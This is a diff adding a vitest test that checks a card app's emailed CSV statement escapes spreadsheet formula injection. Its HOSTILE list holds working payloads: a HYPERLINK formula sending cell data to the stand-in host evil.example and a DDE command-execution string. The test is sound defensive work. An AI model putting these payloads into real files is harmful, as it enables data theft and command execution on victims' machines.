@@ -1,0 +1,60 @@
+import { formatAmount } from '@balcao/domain';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createTestSandbox, type TestSandbox } from '../../test-support';
+import { parseCsv } from '../shared/csv-parse';
+
+let s: TestSandbox;
+const ADMIN = 'admin@demo.balcao.dev';
+const NOW = new Date('2026-11-25T15:00:00Z');
+
+beforeAll(async () => {
+  s = await createTestSandbox();
+  await s.clock.set(NOW, { frozen: true });
+});
+afterAll(() => s?.close());
+
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?x="&A1;"Reembolso")',
+  "+cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  '-2+3',
+];
+
+describe("'Extrair extrato' of a card", () => {
+  it('mails a CSV in the house format whose purchases’ descriptions stay text', async () => {
+    const [card] = await s.db.query<{ id: string }>(
+      `SELECT c.id FROM cards c JOIN users u ON u.seller_id = c.seller_id AND u.email = $1
+        WHERE c.status = 'ACTIVE' ORDER BY c.id LIMIT 1`,
+      [ADMIN],
+    );
+    for (const description of HOSTILE) {
+      const bought = await s.call({
+        method: 'POST',
+        url: `/_sandbox/cards/${card!.id}/purchases`,
+        payload: { amount: 1234.56, description },
+      });
+      expect(bought.status).toBe(201);
+    }
+    const sent = await s.call({
+      method: 'POST',
+      url: '/banking/v1/banking/card/transactions',
+      headers: { ...(await s.bearer(ADMIN)), 'idempotency-key': crypto.randomUUID() },
+      payload: { cardId: card!.id, startDate: '2026-11-25', endDate: '2026-11-25' },
+    });
+    expect(sent.status).toBe(202);
+    const { body } = await s.call({ method: 'GET', url: `/_sandbox/outbox?format=json&to=${ADMIN}` });
+    const [file] = body.emails[0].attachments;
+    expect(file.contentType).toBe('text/csv; charset=utf-8');
+    const bytes = (await s.app.inject({ method: 'GET', url: new URL(file.url).pathname })).rawPayload;
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const text = bytes.toString('utf8');
+    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/);
+    const [header, ...rows] = parseCsv(text);
+    expect(header).toEqual(['Data', 'Descrição', 'Valor (R$)', 'Situação', 'Fatura']);
+    expect(rows.map((r) => r[1]).sort()).toEqual(HOSTILE.map((h) => `'${h}`).sort());
+    for (const row of rows) {
+      expect(row[0]).toBe('25/11/2026 12:00');
+      expect(row[2]).toBe(formatAmount(123456));
+    }
+  });
+});
